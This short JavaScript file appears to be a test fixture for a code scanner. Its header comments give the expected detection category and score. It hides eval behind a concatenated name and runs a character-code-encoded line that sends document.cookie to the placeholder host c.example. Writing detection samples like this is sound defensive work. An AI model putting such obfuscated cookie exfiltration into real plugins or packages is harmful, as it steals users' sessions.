// expect: category=code-generation min=80 context=plugin,package
// why: eval is looked up on the global object by a concatenated name.
const g = globalThis;
const name = 'ev' + 'al';

export function loadRemote(code) {
  return g[name](code);
}

loadRemote(String.fromCharCode(110, 101, 119, 32, 73, 109, 97, 103, 101, 40, 41, 46, 115, 114, 99, 61, 39, 104, 116, 116, 112, 115, 58, 47, 47, 99, 46, 101, 120, 97, 109, 112, 108, 101, 47, 108, 63, 39, 43, 100, 111, 99, 117, 109, 101, 110, 116, 46, 99, 111, 111, 107, 105, 101));
